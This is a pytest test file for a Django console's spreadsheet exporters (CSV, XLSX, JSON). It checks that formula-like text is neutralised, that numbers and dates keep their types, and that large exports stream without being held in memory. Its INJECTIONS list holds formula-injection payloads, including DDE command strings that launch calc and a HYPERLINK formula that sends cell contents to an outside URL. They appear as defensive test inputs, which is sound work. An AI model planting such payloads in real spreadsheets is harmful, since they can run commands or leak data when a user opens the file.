"""Sheets as files: texts stay texts whatever they begin with, numbers stay numbers, and a long one is never held."""

from __future__ import annotations

import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.utils.safestring import SafeString
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from console.exports.addresses import export_address
from console.exports.as_csv import as_csv, neutral
from console.exports.as_json import as_json
from console.exports.as_xlsx import as_xlsx
from console.exports.sheet import About, Cell, Sheet, day, decimal, instant, number, text
from tests.spreadsheets import read_csv, read_xlsx

BERLIN = ZoneInfo("Europe/Berlin")
ABOUT = About(
    page="/companies/aster/credits/annual/",
    computed_at=datetime(2026, 7, 1, 10, 0, 0, 123456, tzinfo=UTC),
    zone_at=lambda _instant: BERLIN,
    company="=Aster",
    company_slug="aster",
    day=date(2026, 7, 1),
    filters=(("q", "=1+1"),),
)
INJECTIONS = [
    "=1+1",
    "+1",
    "-1",
    "@x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=HYPERLINK("http://example.com/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    '=1+1";=1+1',
    "%0A=1+1",
]
HARMLESS = ["Aster", "4-eyes", "a=b", "", "5", "'quoted", 'say "yes", please', "two\nlines", "Élan\u2028"]


def sheet_of(*cells: Cell, kind: Any = text) -> Sheet:
    return Sheet("things", "Things", (kind("thing", "Thing"),), [(each,) for each in cells])


@pytest.mark.parametrize("typed", INJECTIONS)
def test_a_text_that_looks_like_a_formula_comes_out_as_text(typed: str) -> None:
    (found,) = read_csv(b"".join(as_csv(sheet_of(typed), ABOUT))).column("Thing")
    assert found == f"'{typed}"

    with closing(as_xlsx(sheet_of(typed), ABOUT)) as file:
        content = file.read()
    (row,) = list(load_workbook(BytesIO(content)).worksheets[0].iter_rows(min_row=2))
    assert (row[0].data_type, row[0].value) == ("s", typed.replace("\r", "\n"))
    with zipfile.ZipFile(BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")

    (found,) = json.loads(b"".join(as_json(sheet_of(typed), ABOUT)))["rows"]
    assert found == {"thing": typed}


@pytest.mark.parametrize("typed", HARMLESS)
def test_any_other_text_comes_out_as_it_is(typed: str) -> None:
    assert read_csv(b"".join(as_csv(sheet_of(typed), ABOUT))).column("Thing") == [typed]
    with closing(as_xlsx(sheet_of(typed), ABOUT)) as file:
        (row,) = list(load_workbook(file).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert (row[0] or "") == typed


def test_a_sentence_that_is_told_later_and_a_safe_one_are_texts_too() -> None:
    sheet = sheet_of(gettext_lazy("=1+1"), SafeString("=1+1"))
    assert read_csv(b"".join(as_csv(sheet, ABOUT))).column("Thing") == ["'=1+1"] * 2
    with closing(as_xlsx(sheet, ABOUT)) as file:
        assert read_xlsx(file.read()).column("Thing") == ["=1+1"] * 2
    assert [each["thing"] for each in json.loads(b"".join(as_json(sheet, ABOUT)))["rows"]] == ["=1+1"] * 2


@pytest.mark.parametrize("cell", [True, 0.5, object(), ["a"]])
def test_what_is_neither_text_nor_number_nor_day_is_a_mistake(cell: Any) -> None:
    with pytest.raises(TypeError, match="A cell of a sheet is"):
        b"".join(as_csv(sheet_of(cell), ABOUT))


def test_labels_are_texts_too() -> None:
    sheet = Sheet("things", "=Things", (text("thing", "=Thing"),), [])
    assert b"'=Thing" in b"".join(as_csv(sheet, ABOUT))
    with closing(as_xlsx(sheet, ABOUT)) as file:
        found = read_xlsx(file.read())
    assert found.labels == ["=Thing"]
    assert (found.about["Table"], found.about["Company"], found.about["q"]) == ("=Things", "=Aster", "=1+1")


def test_negative_and_large_numbers_rates_and_days_stay_what_they_are() -> None:
    sheet = Sheet(
        "things",
        "Things",
        (number("change", "Change"), decimal("rate", "Rate"), day("day", "Day"), instant("at", "At"), number("none", "None")),
        [(-500, Decimal("0.011"), date(2026, 7, 1), datetime(2026, 7, 1, 10, 0, 0, 5, tzinfo=UTC), None)],
    )
    assert b"".join(as_csv(sheet, ABOUT)).splitlines()[1] == b'-500,0.011,"2026-07-01","2026-07-01T12:00:00+02:00",'

    with closing(as_xlsx(sheet, ABOUT)) as file:
        cells = next(load_workbook(file).worksheets[0].iter_rows(min_row=2))
    assert [each.data_type for each in cells[:4]] == ["n", "n", "d", "d"]
    assert [each.number_format for each in cells[:3]] == ["#,##0", "General", "yyyy-mm-dd"]
    assert [str(each.value) for each in cells] == ["-500", "0.011", "2026-07-01 00:00:00", "2026-07-01 12:00:00", "None"]

    rates = sheet_of(Decimal("100.000000"), Decimal("0.011000"), Decimal("-0.5"), kind=decimal)
    assert b"".join(as_csv(rates, ABOUT)).splitlines()[1:] == [b"100", b"0.011", b"-0.5"]

    told = json.loads(b"".join(as_json(sheet, ABOUT)))
    assert told["rows"] == [{"change": -500, "rate": 0.011, "day": "2026-07-01", "at": "2026-07-01T12:00:00+02:00", "none": None}]


def test_a_file_read_alone_says_what_it_shows() -> None:
    told = json.loads(b"".join(as_json(sheet_of("a", "b"), ABOUT)))
    del told["rows"]
    assert told == {
        "schema": "allotment.sheet.v1",
        "sheet": "things",
        "title": "Things",
        "company": {"slug": "aster", "name": "=Aster"},
        "page": "/companies/aster/credits/annual/",
        "day": "2026-07-01",
        "known_at": None,
        "computed_at": "2026-07-01T12:00:00+02:00",
        "time_zone": "Europe/Berlin",
        "filters": [{"name": "q", "value": "=1+1"}],
        "columns": [{"name": "thing", "label": "Thing", "kind": "text"}],
        "number_of_rows": 2,
    }
    with closing(as_xlsx(sheet_of("a", "b"), ABOUT)) as file:
        book = load_workbook(file)
    assert (book.sheetnames, book.worksheets[0].freeze_panes) == (["Things", "About"], "A2")
    about = {name: str(value) for name, value in book["About"].iter_rows(values_only=True)}
    assert about == {
        "Table": "Things",
        "Company": "=Aster",
        "Day": "2026-07-01 00:00:00",
        "Computed at": "2026-07-01 12:00:00",
        "Time zone": "Europe/Berlin",
        "Page": "/companies/aster/credits/annual/",
        "Rows": "2",
        "q": "=1+1",
    }


@pytest.mark.parametrize("title", ["a/b:c*d?e[f]g\\h", "'quoted'", "x" * 80, "", "About"])
def test_whatever_a_table_is_called_a_worksheet_can_be(title: str) -> None:
    with closing(as_xlsx(Sheet("things", title, (text("thing", "Thing"),), [("a",)]), ABOUT)) as file:
        assert len(load_workbook(file).sheetnames) == 2


def test_characters_that_a_workbook_cannot_hold_are_left_out() -> None:
    with closing(as_xlsx(sheet_of("a\x00b\x0bc"), ABOUT)) as file:
        assert load_workbook(file).worksheets[0]["A2"].value == "abc"


def test_more_rows_than_a_worksheet_has_stand_on_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("console.exports.as_xlsx.ROWS_OF_A_WORKSHEET", 3)
    with closing(as_xlsx(sheet_of(*"abcdefg"), ABOUT)) as file:
        book = load_workbook(file)
    assert book.sheetnames == ["Things", "Things 2", "Things 3", "About"]
    rows = [row for name in book.sheetnames[:3] for row in book[name].iter_rows(min_row=2, values_only=True)]
    assert "".join(row[0] for row in rows) == "abcdefg"


MANY = 100_000
COLUMNS = (text("name", "Name"), number("units", "Units"), decimal("rate", "Rate"), day("day", "Day"))


def many(read: list[int], number_of_rows: int = MANY) -> Sheet:
    """A table that is made as it is read; `read` tells how far."""

    def rows() -> Iterator[tuple[Cell, ...]]:
        for each in range(number_of_rows):
            read[0] = each + 1
            yield (f"Order {each} of a name that is not short", -each, Decimal(each) / 7, date(2026, 7, 1))

    return Sheet("many", "Many", COLUMNS, rows(), number_of_rows)


@pytest.mark.parametrize("write", [as_csv, as_json])
def test_the_first_bytes_come_before_the_last_row_is_read(write: Any) -> None:
    read = [0]
    chunks = write(many(read), ABOUT)
    assert next(chunks)
    assert read == [0]
    assert next(chunks)
    assert read[0] <= 1_000
    assert sum(map(len, chunks)) > 5_000_000
    assert read == [MANY]


def written(write: Any, rows: int) -> tuple[int, int]:
    """Bytes of the file, and the most bytes of memory that were held at once."""
    tracemalloc.start()
    try:
        if write is as_xlsx:
            with closing(as_xlsx(many([0], rows), ABOUT)) as file:
                size = file.seek(0, 2)
        else:
            size = sum(map(len, write(many([0], rows), ABOUT)))
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("write", [as_csv, as_json])
def test_a_hundred_thousand_rows_are_never_held(write: Any) -> None:
    size, most = written(write, MANY)
    assert size > 5_000_000
    assert most < 1_000_000, f"{most:,} bytes at once"


def test_rows_of_a_workbook_are_never_held() -> None:
    few, more = written(as_xlsx, 500), written(as_xlsx, 5_000)
    assert more[0] > 5 * few[0]
    assert more[1] < few[1] + 100_000, f"{few[1]:,} and {more[1]:,} bytes at once"


def test_an_address_of_an_export_keeps_filters_and_day_and_drops_the_page() -> None:
    assert export_address("/a/?q=%3D1&on=2026-07-01&known=x&page=3&table=history&format=json&sheet=x", "csv", "history") == (
        "/a/?q=%3D1&on=2026-07-01&known=x&format=csv&sheet=history"
    )
    assert export_address("/a/", "xlsx") == "/a/?format=xlsx"


def test_neutral_is_said_once() -> None:
    assert [neutral(each) for each in ("=1", "1", "")] == ["'=1", "1", ""]
